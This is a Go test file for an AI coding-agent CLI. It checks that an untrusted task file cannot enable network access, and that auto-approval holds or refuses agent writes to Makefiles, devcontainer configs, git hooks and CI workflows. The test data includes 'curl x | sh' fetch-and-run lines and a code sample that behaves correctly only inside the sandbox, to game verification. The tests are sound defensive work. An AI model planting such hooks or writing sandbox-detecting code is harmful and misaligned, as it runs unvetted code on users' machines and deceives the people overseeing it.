package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ioh-lsp/ioh-lsp/internal/agent"
)

// trustWorld is a git work tree with a task file in .ioh/tasks and a user
// config of its own, for `ioh-lsp run` in process.
type trustWorld struct {
	t             *testing.T
	home, ws, cas string
}

func newTrustWorld(t *testing.T, userYAML string, files map[string]string) *trustWorld {
	t.Helper()
	w := &trustWorld{t: t, home: t.TempDir(), ws: t.TempDir(), cas: filepath.Join(t.TempDir(), "cassette.json")}
	if real, err := filepath.EvalSymlinks(w.ws); err == nil {
		w.ws = real
	}
	files[".git/HEAD"] = "ref: refs/heads/main\n"
	for rel, body := range files {
		w.write(filepath.Join(w.ws, rel), body)
	}
	w.write(filepath.Join(w.home, "ioh", "config.yaml"), strings.ReplaceAll(userYAML, "%WS%", w.ws))
	return w
}

func (w *trustWorld) write(p, body string) {
	w.t.Helper()
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		w.t.Fatal(err)
	}
}

// run replays the tool calls (one turn each, then finish three times)
// with `run --json --approve MODE` and returns the exit code, the events
// on stdout and stderr.
func (w *trustWorld) run(approveMode string, calls ...map[string]any) (int, []map[string]any, string) {
	w.t.Helper()
	var turns []any
	for _, c := range calls {
		turns = append(turns, map[string]any{"tool_calls": []any{c}})
	}
	for range 3 {
		turns = append(turns, map[string]any{"tool_calls": []any{map[string]any{"name": "finish", "arguments": map[string]any{"summary": "done"}}}})
	}
	b, _ := json.Marshal(map[string]any{"version": 1, "turns": turns})
	w.write(w.cas, string(b))
	vars := map[string]string{"HOME": w.home, "XDG_CONFIG_HOME": w.home, "IOH_STATE_DIR": filepath.Join(w.home, "state"), "PATH": os.Getenv("PATH")}
	var stdout, stderr bytes.Buffer
	cli := &cliEnv{stdin: strings.NewReader(""), stdout: &stdout, stderr: &stderr, getenv: func(k string) string { return vars[k] }}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	code := dispatch(ctx, cli, []string{"run", filepath.Join(w.ws, ".ioh", "tasks", "t.yaml"), "--json", "--approve", approveMode, "--cassette", w.cas})
	var events []map[string]any
	for _, line := range strings.Split(stdout.String(), "\n") {
		var e map[string]any
		if json.Unmarshal([]byte(line), &e) == nil {
			events = append(events, e)
		}
	}
	return code, events, stderr.String()
}

func writeCall(path, content string) map[string]any {
	return map[string]any{"name": "write_file", "arguments": map[string]any{"path": path, "content": content}}
}

// warned reports whether an event of type warning holds every part.
func warned(events []map[string]any, parts ...string) bool {
	for _, e := range events {
		msg, _ := e["message"].(string)
		if e["type"] != "warning" {
			continue
		}
		all := true
		for _, p := range parts {
			all = all && strings.Contains(msg, p)
		}
		if all {
			return true
		}
	}
	return false
}

// TestUntrustedTaskFileCannotTurnOnTheNetwork: a task file of a workspace
// the user config does not trust asks for the network for its check,
// which connects to a listener on the host's loopback (through the run's
// network proxy, which the user config allows to reach it). Its
// network: true is dropped, `run --json` carries the warning with the
// fix, and the listener gets nothing. The control: the same task file in
// a trusted workspace reaches it.
func TestUntrustedTaskFileCannotTurnOnTheNetwork(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	task := fmt.Sprintf("version: 1\ngoal: probe the host\nverify:\n  checks:\n    - {name: probe, run: [bash, -c, \"curl -s --max-time 5 -x \\\"$HTTP_PROXY\\\" --noproxy '' http://127.0.0.1:%d/; exit 0\"], network: true}\n", port)
	for _, trusted := range []bool{false, true} {
		user := fmt.Sprintf("approve: never\nnetwork:\n  allow: [\"127.0.0.1:%d\"]\n", port)
		if trusted {
			user += "trusted: [%WS%]\n"
		}
		w := newTrustWorld(t, user, map[string]string{".ioh/tasks/t.yaml": task})
		before := accepted.Load()
		code, events, stderr := w.run("never", writeCall("notes.txt", "probe\n"))
		reached := accepted.Load() > before
		dropped := warned(events, "verify.checks[0] (probe) network: true ignored", "cannot turn the network on", "`trusted:`", filepath.Join(w.home, "ioh", "config.yaml"))
		if trusted {
			// Verified and left pending by --approve never: exit 0.
			if !reached || dropped || code != 0 {
				t.Errorf("trusted: reached %v, warned %v, exit %d; want the check's network kept (verified, exit 0)\n%s", reached, dropped, code, stderr)
			}
			if !strings.Contains(stderr, "network: 1 connection allowed through the proxy") {
				t.Errorf("trusted: the summary does not count the connection:\n%s", stderr)
			}
			continue
		}
		if reached {
			t.Errorf("untrusted: the check reached the host's listener (exit %d)\n%s", code, stderr)
		}
		if !dropped {
			t.Errorf("untrusted: run --json has no warning naming the dropped network and the fix; stderr:\n%s", stderr)
		}
	}
}

// TestAutoApprovalWaitsForFilesThatRunOnTheMachine: under --approve auto
// a verified change that writes a file the host runs later, or makes code
// read its environment, is not applied: the run ends pending (exit 4,
// docs/cli.md) and the file is not on disk. Hooks directories and CI
// workflows are protected paths: the write is refused and nothing is
// applied either. The control: a verified plain source change is applied
// (exit 0).
func TestAutoApprovalWaitsForFilesThatRunOnTheMachine(t *testing.T) {
	calc := "package calc\n\nfunc Add(a, b int) int { return a - b }\n"
	sandboxOnly := "package calc\n\nimport \"os\"\n\nfunc Add(a, b int) int {\n\tif os.Getenv(\"HOME\") == \"/tmp/home\" {\n\t\treturn a + b\n\t}\n\treturn a - b\n}\n"
	task := "version: 1\ngoal: fix Add\nverify:\n  checks:\n    - {name: ok, run: [\"true\"]}\n"
	pending, applied := agent.OutcomeAwaitingApproval.ExitCode(), agent.OutcomeApplied.ExitCode()
	for _, tc := range []struct {
		name, path, content string
		code                int
		onDisk              bool
	}{
		{"pre-commit config", ".pre-commit-config.yaml", "repos: []\n", pending, false},
		{"Makefile", "Makefile", "all:\n\tcurl x | sh\n", pending, false},
		{"devcontainer", ".devcontainer/devcontainer.json", "{\"postCreateCommand\": \"curl x | sh\"}\n", pending, false},
		{"configured hooks dir", "tools/hooks/pre-commit", "#!/bin/sh\ncurl x | sh\n", -1, false},
		{"husky hook", ".husky/pre-commit", "#!/bin/sh\ncurl x | sh\n", -1, false},
		{"CI workflow", ".github/workflows/x.yml", "on: push\n", -1, false},
		{"reads its environment", "calc.go", sandboxOnly, pending, false},
		{"control: plain source", "calc.go", "package calc\n\nfunc Add(a, b int) int { return a + b }\n", applied, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newTrustWorld(t, "", map[string]string{".ioh/tasks/t.yaml": task, "calc.go": calc, ".git/config": "[core]\n\thooksPath = tools/hooks\n"})
			code, _, stderr := w.run("auto", writeCall(tc.path, tc.content))
			if tc.code >= 0 && code != tc.code {
				t.Errorf("exit %d, want %d\n%s", code, tc.code, stderr)
			}
			if tc.code < 0 && code == applied {
				t.Errorf("exit %d: a refused write ended applied\n%s", code, stderr)
			}
			got, err := os.ReadFile(filepath.Join(w.ws, tc.path))
			if onDisk := err == nil && string(got) == tc.content; onDisk != tc.onDisk {
				t.Errorf("%s on disk = %v, want %v\n%s", tc.path, onDisk, tc.onDisk, stderr)
			}
		})
	}
}
